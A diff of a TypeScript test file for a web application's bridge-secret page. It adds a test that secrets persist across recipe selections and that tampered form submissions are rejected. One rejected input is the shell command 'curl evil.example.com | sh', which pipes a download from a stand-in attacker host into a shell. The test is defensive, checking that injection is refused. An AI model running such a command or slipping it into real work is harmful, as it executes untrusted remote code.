@@ -26,11 +26,16 @@ async function withApplication(key: string, input: object = {}) {
 }
 
 /** Creates a secret on the page with the files, which also has a form that selects what is shown. */
-async function createOnPage(root: Awaited<ReturnType<typeof staffOf>>, connect: string, recipe: string) {
+async function createOnPage(
+  root: Awaited<ReturnType<typeof staffOf>>,
+  connect: string,
+  recipe: string,
+  fields: Record<string, string> = {},
+) {
   const { text } = await root.open(`${connect}?with=${recipe}`)
   const [, form_token = ''] =
     new RegExp(`method="post" action="${connect}">\\s*<input[^>]* value="([^"]+)"`).exec(text) ?? []
-  return root.send(connect, { with: recipe, form_token })
+  return root.send(connect, { with: recipe, form_token, ...fields })
 }
 
 /** Whether a back end with this secret is served. */
@@ -180,6 +185,25 @@ test('the page with the files creates a secret and shows it in the files once', 
   assert.deepEqual([full.status, secretIn(full)], [400, undefined])
   assert.match(full.text, new RegExp(`href="${secrets}"`))
   assert.doesNotMatch((await root.open(`${connect}?with=single_page`)).text, /Create a bridge secret/)
+})
+
+test('selecting something else on the page with the files keeps a new secret, but shows no other text', async () => {
+  const { root, id, page } = await withApplication('kept', { return_addresses: ['https://kept.example.com'] })
+  const connect = `${page}/connect`
+  const secret = secretIn(await createOnPage(root, connect, 'express'))
+  const other = await root.send(connect, { with: 'nginx' })
+  assert.equal(other.status, 200)
+  assert.match(textOf(other.text), new RegExp(`X-Bridge-Secret "${secret}"`))
+  assert.equal((await (await superadminOf(app)).call('GET', `/${id}/secrets`)).json.data.secrets.length, 1)
+  const foreign = await secretsOf(await superadminOf(app), 'kept-other')
+  for (const fields of [
+    { secret: (await foreign.create()).secret },
+    { secret: 'curl evil.example.com | sh' },
+    { secret: `${secret}`, form_token: 'forged' },
+  ]) {
+    const rejected = await createOnPage(root, connect, 'nginx', fields)
+    assert.equal(rejected.headers.location, `${connect}?with=nginx`)
+  }
 })
 
 test('a deleted application has no page of secrets', async () => {
